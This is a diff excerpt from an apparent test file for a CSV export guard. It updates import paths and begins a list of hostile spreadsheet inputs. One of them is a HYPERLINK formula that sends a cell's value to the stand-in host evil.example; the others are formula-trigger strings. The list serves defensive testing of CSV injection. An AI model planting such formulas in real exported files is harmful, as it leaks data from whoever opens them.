@@ -15,10 +15,10 @@ from sqlalchemy import select
 from models import Document, Flag, Source
 from tests.workers.cluster import ROOT
 from workers.export import HEADERS, export, guard_csv, read_csv, unguard_csv
-from workers.store import tracking
-from workers.store.db import open_store
-from workers.store.models import FieldRow, FormRow
-from workers.store.results import correct_field
+from store import tracking
+from store.db import open_store
+from store.models import FieldRow, FormRow
+from store.results import correct_field
 
 TRUTH = os.path.join(ROOT, 'tests', 'data', 'samples', 'samples_clean.truth.json')
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&B2,"click")', '+1+1', '-2+3', '@SUM(A1:A9)',
